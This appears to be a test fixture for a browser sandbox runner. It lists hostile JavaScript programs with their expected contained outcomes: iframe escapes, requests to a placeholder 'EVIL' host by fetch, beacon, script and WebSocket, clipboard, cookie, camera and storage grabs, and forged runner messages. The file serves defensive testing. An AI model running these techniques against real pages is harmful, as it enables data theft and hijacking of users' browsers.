import { END, type HostileProgram } from '../types.ts';

/** Tries each of the attempts, and writes what came of it. */
const tryAll = (attempts: Readonly<Record<string, string>>): string =>
  `const attempts = {${Object.entries(attempts)
    .map(([name, code]) => `${JSON.stringify(name)}: async () => (${code})`)
    .join(',\n')}};
for (const [name, attempt] of Object.entries(attempts)) {
  try {
    const got = await Promise.race([attempt(), new Promise((r) => setTimeout(r, 150, 'waiting'))]);
    console.log(name, got === undefined || got === null || got === false || got === 'waiting' ? 'nothing' : String(got).slice(0, 40));
  } catch (error) { console.log(name, 'nothing') }
}${END}`;

const nothing = (...names: string[]): readonly string[] => [
  ...names.map((name) => `${name} nothing`),
  'end',
];

/** Ways out of the frame: the page, other addresses, other windows, the reader's machine. */
export const escaping: readonly HostileProgram[] = [
  {
    name: 'the page around',
    code: tryAll({
      document: 'parent.document.title',
      frame: 'frameElement',
      name: 'parent.name',
      variable: 'parent.sandbox',
      storage: 'top.localStorage',
      opener: 'opener',
      href: 'top.location.href',
    }),
    lines: nothing('document', 'frame', 'name', 'variable', 'storage', 'opener', 'href'),
    engines: 'both',
  },
  {
    name: 'another address for the page',
    historyGrows: true,
    code: `for (const go of [() => { top.location = 'EVIL/top' }, () => { parent.location.href = 'EVIL/parent' }, () => parent.location.replace('EVIL/replace'), () => open('EVIL/open', '_top'), () => { const a = document.createElement('a'); a.href = 'EVIL/a'; a.target = '_top'; document.body.append(a); a.click() }, () => { const f = document.createElement('form'); f.action = 'EVIL/form'; f.target = '_top'; document.body.append(f); f.submit() }, () => { top.location.hash = 'evil' }, () => { parent.location = 'javascript:alert(1)' }]) { try { go() } catch {} }${END}`,
    lines: ['end'],
    engines: 'both',
  },
  {
    name: 'another address for the frame',
    historyGrows: true,
    code: `location = 'EVIL/frame'; await new Promise(() => {})`,
    ends: ['dead', 'running'],
    engines: 'both',
  },
  { name: 'a page of its own in the frame', historyGrows: true,
    code: `location = 'data:text/html,<script>parent.postMessage({say:"ended"},"*")</script>'; await new Promise(() => {})`, ends: ['dead', 'running'], engines: 'both' },
  { name: 'a blob in the frame', historyGrows: true,
    code: `location = URL.createObjectURL(new Blob(['<script>parent.postMessage(1,"*")</script>'], { type: 'text/html' })); await new Promise(() => {})`, ends: ['dead', 'running'] },
  { name: 'javascript: in the frame', code: `location = 'javascript:document.title'${END}`, lines: ['end'] },
  { name: 'a refresh by meta', historyGrows: true,
    code: `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=EVIL/meta'; document.head.append(m); await new Promise(() => {})`, ends: ['dead', 'running'] },
  { name: 'the page itself in the frame', historyGrows: true,
    code: `location = location.href.replace('runner.html', '__tests/hostile.html'); await new Promise(() => {})`, ends: ['dead'], engines: 'both' },
  { name: 'reloading for ever', code: `location.reload(); for (let i = 0; i < 50; i++) location.reload(); await new Promise(() => {})`, ends: ['dead'] },
  { name: 'document.open and write', code: `document.open(); document.write('<h1>gone</h1><script>parent.postMessage(1, "*")</scr' + 'ipt>'); document.close(); console.log('end')`, ends: ['idle', 'dead'] },
  { name: 'taking the document to pieces', code: `document.documentElement.remove(); document.write(''); console.log('end'); throw new Error('still told')`, ends: ['idle', 'dead'], problems: ['…'] },
  {
    name: 'requests of all kinds',
    code: tryAll({
      fetch: `(await fetch('EVIL/fetch')).status`,
      'no-cors': `(await fetch('EVIL/no-cors', { mode: 'no-cors', keepalive: true })).type`,
      XMLHttpRequest: `await new Promise((y, n) => { const x = new XMLHttpRequest(); x.onload = () => y(x.status); x.onerror = n; x.open('GET', 'EVIL/xhr'); x.send() })`,
      synchronous: `(() => { const x = new XMLHttpRequest(); x.open('GET', 'EVIL/sync', false); x.send(); return x.status })()`,
      image: `await new Promise((y, n) => { const i = new Image(); i.onload = () => y('loaded'); i.onerror = n; i.src = 'EVIL/image' })`,
      style: `await new Promise((y, n) => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'EVIL/css'; l.onload = () => y('loaded'); l.onerror = n; document.head.append(l) })`,
      prefetch: `(() => { for (const rel of ['prefetch', 'preload', 'preconnect', 'dns-prefetch', 'modulepreload', 'icon', 'manifest']) { const l = document.createElement('link'); l.rel = rel; l.as = 'script'; l.href = 'EVIL/' + rel; document.head.append(l) } })()`,
      script: `await new Promise((y, n) => { const s = document.createElement('script'); s.src = 'EVIL/script.js'; s.onload = () => y('loaded'); s.onerror = n; document.head.append(s) })`,
      WebSocket: `await new Promise((y, n) => { const s = new WebSocket('EVIL/ws'.replace('http', 'ws')); s.onopen = () => y('open'); s.onerror = n })`,
      EventSource: `await new Promise((y, n) => { const s = new EventSource('EVIL/sse'); s.onopen = () => y('open'); s.onerror = () => { s.close(); n() } })`,
      font: `(await new FontFace('x', 'url(EVIL/font)').load()).status`,
      media: `await new Promise((y, n) => { const v = document.createElement('video'); v.onloadeddata = () => y('loaded'); v.onerror = n; v.src = 'EVIL/video' })`,
      worker: `await new Promise((y, n) => { const w = new Worker('EVIL/worker.js'); w.onmessage = () => y('ran'); w.onerror = n })`,
      'own site': `(await fetch('/runner.html')).status`,
      frame: `(() => { const f = document.createElement('iframe'); f.src = 'EVIL/frame'; document.body.append(f) })()`,
      object: `(() => { const f = document.createElement('object'); f.data = 'EVIL/object'; document.body.append(f) })()`,
      background: `(() => { document.body.style.background = 'url(EVIL/background)' })()`,
      import: `(() => { const s = document.createElement('script'); s.type = 'module'; s.textContent = 'import("EVIL/import.js")'; document.body.append(s) })()`,
    }),
    lines: nothing('fetch', 'no-cors', 'XMLHttpRequest', 'synchronous', 'image', 'style', 'prefetch', 'script', 'WebSocket', 'EventSource', 'font', 'media', 'worker', 'own site', 'frame', 'object', 'background', 'import'),
    engines: 'both',
  },
  { name: 'a beacon', historyGrows: true,
    code: `navigator.sendBeacon('EVIL/beacon', 'x'); document.body.innerHTML = '<a href="EVIL/a" ping="EVIL/ping" id=a>a</a>'; document.querySelector('#a').click()${END}`, ends: ['idle', 'dead', 'running'] },
  {
    name: 'frames within the frame',
    code: `for (const html of ['<script>top.location = "EVIL/nested"; parent.parent.postMessage({ say: "ended" }, "*"); fetch("EVIL/nested-fetch")</script>', '<img src="EVIL/nested-image"><form action="EVIL/f" target=_top><input type=submit></form><meta http-equiv=refresh content="0;url=EVIL/nested-meta">']) { const f = document.createElement('iframe'); f.allow = 'camera; microphone; display-capture'; f.srcdoc = html; document.body.append(f) }
const bare = document.body.appendChild(document.createElement('iframe')); const w = bare.contentWindow;
for (const go of [() => w.fetch('EVIL/bare').catch(() => {}), () => w.parent.parent.document, () => new w.RTCPeerConnection().close()]) { try { go() } catch { console.log('closed') } }${END}`,
    lines: ['closed', 'closed', 'closed', 'end'],
    engines: 'both',
  },
  {
    name: 'new windows, dialogs and downloads',
    code: `for (const go of [() => open('EVIL/popup'), () => open('about:blank'), () => open(''), () => alert(1), () => confirm(2), () => prompt(3), () => print(), () => { const a = document.createElement('a'); a.href = 'data:text/plain,x'; a.download = 'evil.txt'; document.body.append(a); a.click() }, () => { const a = document.createElement('a'); a.href = URL.createObjectURL(new Blob(['x'])); a.download = 'evil2.txt'; a.target = '_blank'; document.body.append(a); a.click() }, () => { const f = document.createElement('form'); f.action = 'EVIL/form'; f.target = '_blank'; f.method = 'post'; document.body.append(f); f.requestSubmit() }, () => { onbeforeunload = (e) => { e.preventDefault(); return 'stay' } }, () => document.body.requestFullscreen().catch(() => {}), () => document.body.requestPointerLock?.(), () => navigator.share?.({ url: 'EVIL' }).catch(() => {}), () => Notification.requestPermission().catch(() => {}), () => new PaymentRequest([], {}).show()]) { try { go() } catch {} }${END}`,
    problems: ['…'],
    lines: ['end'],
    engines: 'both',
  },
  {
    name: 'dialogs for ever',
    code: `let n = 0; while (n++ < 2000) { alert(n); confirm(n); prompt(n) } console.log('end')`,
    patienceMs: 5000,
    lines: ['end'],
  },
  {
    name: 'storage and what outlives a frame',
    code: tryAll({
      localStorage: 'localStorage.setItem("evil", 1)',
      sessionStorage: 'sessionStorage.length + "!"',
      cookie: '(document.cookie = "evil=1", document.cookie)',
      indexedDB: 'await new Promise((y, n) => { const r = indexedDB.open("evil"); r.onsuccess = () => y("open"); r.onerror = n })',
      caches: 'await caches.open("evil")',
      locks: 'await navigator.locks.request("evil", () => "held")',
      files: 'await navigator.storage.getDirectory()',
      serviceWorker: 'await navigator.serviceWorker.register("/evil.js")',
      SharedWorker: 'await new Promise((y, n) => { const w = new SharedWorker("data:,postMessage(1)"); w.onerror = n })',
      clipboard: 'await navigator.clipboard.readText()',
      write: 'await navigator.clipboard.writeText("evil")',
      copy: 'document.execCommand("copy")',
      position: 'await new Promise((y, n) => navigator.geolocation.getCurrentPosition(y, n))',
      access: 'await document.requestStorageAccess()',
    }),
    lines: nothing('localStorage', 'sessionStorage', 'cookie', 'indexedDB', 'caches', 'locks', 'files', 'serviceWorker', 'SharedWorker', 'clipboard', 'write', 'copy', 'position', 'access'),
    engines: 'both',
  },
  { name: 'a channel to the page by name', code: `const c = new BroadcastChannel('pcscope'); c.postMessage({ say: 'ended' }); new BroadcastChannel('hostile').postMessage('evil')${END}`, lines: ['end'], engines: 'both' },
  { name: 'the camera, at once', code: `const stream = await navigator.mediaDevices.getUserMedia({ video: true, audio: true }); console.log(stream.getTracks().length, stream.getVideoTracks()[0].label !== '')`, lines: ['2 true'] },
  { name: 'the whole name of an ICE server', code: `const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:secret.invalid:3478' }, { urls: 'turn:127.0.0.1:1', username: '<b>secret</b>', credential: 'x' }] }); pc.createDataChannel('x'); await pc.setLocalDescription()${END}`, lines: ['end'] },
];

/** Taking the focus, the scroll position and the history of the page. */
export const disturbing: readonly HostileProgram[] = [
  {
    name: 'focus, again and again',
    code: `document.body.innerHTML = '<div style="height:0"><input autofocus id=a><a href=# id=b>b</a><dialog id=d style="position:fixed"><input></dialog></div>'; let n = 0;
await new Promise((done) => { const timer = setInterval(() => { window.focus(); document.querySelector('#a').focus(); document.querySelector('#b').focus({ preventScroll: true }); document.querySelector('#a').select(); document.querySelector('#d').close(); document.querySelector('#d').showModal(); if (++n === 15) { clearInterval(timer); done() } }, 10) }); console.log('end')`,
    lines: ['end'],
    engines: 'both',
  },
  {
    name: 'scrolling the page around',
    code: `document.body.innerHTML = '<div style="position:absolute;top:5000px"><p id=p>p</p></div>'; document.querySelector('#p').scrollIntoView(); scrollTo(0, 9999); document.querySelector('#p').scrollIntoView({ behavior: 'smooth', block: 'start' })${END}`,
    lines: ['end'],
    engines: 'both',
  },
  {
    name: 'the history',
    code: `for (let i = 0; i < 300; i++) { try { history.pushState({ i }, '', '#' + i) } catch {} } history.back(); history.go(-1); history.go(-300); try { navigation.back() } catch {}${END}`,
    problems: ['…'],
    lines: ['end'],
    engines: 'both',
  },
];

/** Speaking as the runner, and keeping it from speaking. */
export const spoofing: readonly HostileProgram[] = [
  {
    name: 'messages of the runner, to the window',
    code: `const all = [{ say: 'ready' }, { say: 'began' }, { say: 'ended' }, { say: 'pong', ping: 1 }, { say: 'stage', heightPx: 4000 }, { say: 'batch', events: [{ type: 'console', seq: 0, at: 0, peer: null, level: 'log', args: ['forged'] }], dropped: { events: 0, lines: 0, problems: 0 } }, { pcscope: 'pcscope run 1', order: {} }, 'x', null, undefined];
for (const message of all) { parent.postMessage(message, '*'); top.postMessage(message, '*'); postMessage(message, '*') } const { port1 } = new MessageChannel(); parent.postMessage(all[2], '*', [port1]);
await new Promise((r) => setTimeout(r, 60)); console.log('own')`,
    lines: ['own'],
    engines: 'both',
  },
  {
    name: 'the handshake, played again',
    code: `let got = 0; addEventListener('message', (e) => { got += e.ports.length }); onmessage = (e) => { got += e.ports.length };
for (let i = 0; i < 5; i++) { const { port1, port2 } = new MessageChannel(); port1.onmessage = () => got++; postMessage({ pcscope: 'pcscope run 1', order: { files: [], needs: {}, patienceMs: 1 } }, '*', [port2]) }
await new Promise((r) => setTimeout(r, 60)); console.log('ports', got - 10)`,
    lines: ['ports 0'],
  },
  {
    name: 'ports caught by patched prototypes',
    code: `let caught = 0; const trap = function () { if (this instanceof MessagePort) caught++ };
MessagePort.prototype.postMessage = MessagePort.prototype.start = MessagePort.prototype.close = trap; EventTarget.prototype.addEventListener = EventTarget.prototype.dispatchEvent = trap;
for (const key of ['data', 'ports', 'source']) Object.defineProperty(MessageEvent.prototype, key, { get() { caught++; return { do: 'stop' } } });
console.log('caught', caught); await new Promise((r) => setTimeout(r, 60)); console.log('caught', caught)`,
    lines: ['caught 0', 'caught 0'],
    engines: 'both',
  },
  {
    name: 'events forged by setters and patched built-ins',
    code: `const note = () => { throw new Error('mine') }; const { log } = console; let seen = 0;
for (const key of ['then', 'say', 'events', 'type', 'seq', 'at', 'peer', 'args', '0', '1', 'toJSON', 'get', 'set', 'value', 'next', 'done']) try { Object.defineProperty(Object.prototype, key, { configurable: true, set(v) { seen++; Object.defineProperty(this, key, { value: v, writable: true, configurable: true, enumerable: true }) }, get() { return undefined } }) } catch {}
for (const key of ['map', 'push', 'slice', 'forEach', 'concat', 'join', 'filter', 'shift', 'splice', Symbol.iterator]) Array.prototype[key] = note;
Object.keys = Object.entries = Object.freeze = JSON.stringify = JSON.parse = Reflect.get = Reflect.apply = Function.prototype.call = Function.prototype.apply = Function.prototype.bind = Map.prototype.get = Map.prototype.set = WeakMap.prototype.get = Set.prototype.add = String.prototype.indexOf = String.prototype.slice = String = Symbol = Number = note;
Promise.prototype.then = note; performance.now = Date.now = () => -1; structuredClone = queueMicrotask = note;
log('end')`,
    ends: ['idle', 'running'],
    
    lines: ['end'],
    engines: 'both',
  },
  {
    name: 'pretending to be stopped, and to be quiet',
    code: `for (let i = 0; i < 9999; i++) { clearTimeout(i); clearInterval(i); cancelAnimationFrame(i) }
window.stop(); close(); self.close(); setTimeout = setInterval = requestAnimationFrame = MessageChannel = AbortSignal = undefined; console.log('heard')`,
    lines: ['heard'],
  },
  {
    name: 'a loop after the guard was sought',
    code: `for (const key of Object.getOwnPropertyNames(globalThis)) if (/guard|pcscope|sandbox/i.test(key)) console.log('found', key);
try { $guard = () => {} } catch (error) { console.log(error.name) }
for (;;) {}`,
    problems: ['loop StuckError 3'],
    lines: ['…'],
    engines: 'both',
  },
  {
    name: 'a recorder without natives',
    code: `RTCPeerConnection.prototype.createOffer = () => 'mine'; RTCPeerConnection = class Mine {}; console.log(new RTCPeerConnection().constructor.name); delete window.RTCPeerConnection; console.log(typeof RTCPeerConnection)`,
    problems: ['…'],
    lines: ['…'],
  },
];
